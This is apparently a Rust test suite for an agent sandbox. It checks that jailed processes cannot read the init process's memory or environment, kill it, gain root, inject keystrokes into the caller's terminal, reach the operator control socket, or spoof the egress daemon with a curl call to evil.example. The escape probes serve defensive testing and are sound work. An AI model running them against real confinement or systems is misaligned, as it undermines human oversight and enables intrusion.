//! Other processes, terminals, cores and what a process says of itself.
//!
//! Not for: calls that reach into processes (`syscalls`).

use super::probe::{Probe, TOOLS, ask, compare};
use crate::harness::{Daemon, Jail, PATIENCE};

#[test]
fn the_first_process_is_closed_to_the_agent() {
    let found = ask(
        &Jail::new(),
        "",
        &[
            ("mem", "reading('/proc/1/mem')"),
            ("environ", "reading('/proc/1/environ')"),
            ("maps", "reading('/proc/1/maps')"),
            ("auxv", "reading('/proc/1/auxv')"),
            ("stack", "reading('/proc/1/stack')"),
            ("syscall", "reading('/proc/1/syscall')"),
            ("exe", "attempt(os.readlink, '/proc/1/exe')"),
            ("root", "attempt(os.listdir, '/proc/1/root')"),
            ("cwd", "attempt(os.listdir, '/proc/1/cwd')"),
            ("fd", "attempt(os.listdir, '/proc/1/fd')"),
            ("map_files", "attempt(os.listdir, '/proc/1/map_files')"),
            ("ns", "attempt(os.readlink, '/proc/1/ns/mnt')"),
            ("signal", "attempt(os.kill, 1, signal.SIGKILL)"),
            (
                "limits",
                "attempt(__import__('resource').prlimit, 1, __import__('resource').RLIMIT_NOFILE, (1, 1))",
            ),
            (
                "priority",
                "attempt(os.setpriority, os.PRIO_PROCESS, 1, 19)",
            ),
            ("own_environ", "reading('/proc/self/environ')"),
            ("own_maps", "reading('/proc/self/maps')"),
            ("own_exe", "attempt(os.readlink, '/proc/self/exe')"),
            ("own_ns", "attempt(os.readlink, '/proc/self/ns/mnt')"),
        ],
    );
    assert_eq!(found.len(), 19, "{found:?}");
    for (name, answer) in &found {
        assert_eq!(
            answer == "ok",
            name.starts_with("own_"),
            "{name}: {found:?}"
        );
    }
}

#[test]
fn processes_of_the_host_and_of_other_jails_are_invisible() {
    let neighbour = Jail::new();
    let mut other = neighbour.start(&["/bin/cat"]);
    let script = "import os\nprint(sorted(int(n) for n in os.listdir('/proc') if n.isdigit()))\n\
                  for pid in range(3, 40000):\n  try: os.kill(pid, 0); print('reached', pid)\n  except ProcessLookupError: pass";
    let outcome = Jail::new().run(&["/usr/bin/python3", "-c", script]).ok();
    assert_eq!(outcome.text(), "[1, 2]", "{outcome}");
    other.send("still here\n");
    other.await_text("still here", PATIENCE);
    other.close_input();
    other.wait(PATIENCE);
}

#[test]
fn the_limits_and_marks_of_a_process_are_the_last_word() {
    const PROBES: [Probe; 7] = [
        (
            "core",
            "attempt_value(R.setrlimit, R.RLIMIT_CORE, (1, 1))",
            "refused",
            "ok",
        ),
        (
            "core_now",
            "R.getrlimit(R.RLIMIT_CORE)[1] == 0",
            "True",
            "False",
        ),
        ("setuid", "attempt(os.setuid, 0)", "EPERM", "ok"),
        ("setgid", "attempt(os.setgid, 0)", "EPERM|EINVAL", "ok"),
        (
            "setgroups",
            "attempt(os.setgroups, [0])",
            "EPERM|EINVAL",
            "ok",
        ),
        (
            "realtime",
            "attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))",
            "EPERM",
            "ok|EPERM",
        ),
        ("nice", "attempt(os.nice, 1)", "ok", "ok"),
    ];
    let setup = "
import resource as R
def attempt_value(call, *arguments):
    try: call(*arguments); return 'ok'
    except (ValueError, OSError): return 'refused'";
    compare(&Jail::new(), setup, &PROBES);
}

#[test]
fn a_crash_leaves_no_core() {
    let script = "
os.chdir('/workspace')
pid = os.fork()
if pid == 0: os.kill(os.getpid(), signal.SIGSEGV)
status = os.waitpid(pid, 0)[1]
print(os.WTERMSIG(status), os.WCOREDUMP(status), os.listdir('.'))";
    let outcome = Jail::new()
        .scratch()
        .run(&["/usr/bin/python3", "-c", &format!("{TOOLS}{script}")])
        .ok();
    assert_eq!(outcome.text(), "11 False []");
}

#[test]
fn a_jail_can_not_type_into_its_callers_terminal() {
    let script = "import fcntl, errno, termios, struct
for number, word in ((0x5412, b'x'), (0x541C, b'\\x03'), (0x5423, struct.pack('i', 0)), (0x5412 | 1 << 40, b'x')):
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        r = libc.syscall(ctypes.c_long(16), ctypes.c_long(0), ctypes.c_long(number), word)
        print('let' if r == 0 else errno.errorcode[ctypes.get_errno()])
    except OSError as e: print(errno.errorcode[e.errno])
print(len(termios.tcgetattr(0)), 'attributes')
";
    let jail = Jail::new();
    let terminal = jail.terminal(&["/usr/bin/python3", "-c", script], (24, 80));
    let (code, shown) = terminal.wait(PATIENCE);
    assert_eq!(code, 0, "{shown}");
    assert_eq!(shown.matches("EPERM").count(), 4, "{shown}");
    assert!(shown.contains("7 attributes"), "{shown}");
}

#[test]
fn identity_comes_from_the_wire_and_not_from_what_a_process_calls_itself() {
    let daemon = Daemon::ephemeral();
    let script = "import ctypes, os, subprocess, sys
ctypes.CDLL(None).prctl(15, b'sheriffd', 0, 0, 0)
os.symlink('/usr/bin/curl', '/tmp/sheriff-office')
subprocess.run(['sheriff-office', '-s', '-H', 'X-Sheriff-Session: s-0000000000000000', 'http://evil.example/'], executable='/tmp/sheriff-office')
print()
print(os.environ['SHERIFF_SESSION'])";
    let outcome = Jail::on(&daemon)
        .run(&["/usr/bin/python3", "-c", script])
        .ok();
    let text = outcome.text();
    assert!(text.contains("not_in_allowlist"), "{outcome}");
    let events = daemon
        .sheriff(&["egress", "tail", "--json"])
        .ok()
        .json_lines();
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(
        events[0]["session"],
        text.lines().last().unwrap(),
        "{events:?}"
    );
}

#[test]
fn inside_there_is_no_switch_and_no_way_to_run_sheriff_again() {
    let daemon = Daemon::shared();
    let found = ask(
        &Jail::on(daemon),
        "",
        &[
            ("control", "attempt(os.stat, '/run/sheriff/control.sock')"),
            ("attach", "attempt(os.stat, '/run/sheriff/attach.sock')"),
            ("gateway", "attempt(os.stat, '/run/sheriff/gateway.sock')"),
            ("runtime", "attempt(os.listdir, '/run/user')"),
        ],
    );
    assert_eq!(found["gateway"], "ok", "{found:?}");
    assert!(
        ["control", "attach", "runtime"]
            .iter()
            .all(|name| found[*name] != "ok"),
        "{found:?}"
    );
    // The operator's socket of this daemon, by its own path on the host.
    let path = daemon.runtime().join("control.sock");
    assert!(path.exists());
    let call = format!(
        "attempt(socket.socket(socket.AF_UNIX).connect, '{}')",
        path.display()
    );
    let found = ask(&Jail::on(daemon), "", &[("control", call.as_str())]);
    assert!(
        ["ENOENT", "EACCES"].contains(&found["control"].as_str()),
        "{found:?}"
    );
}
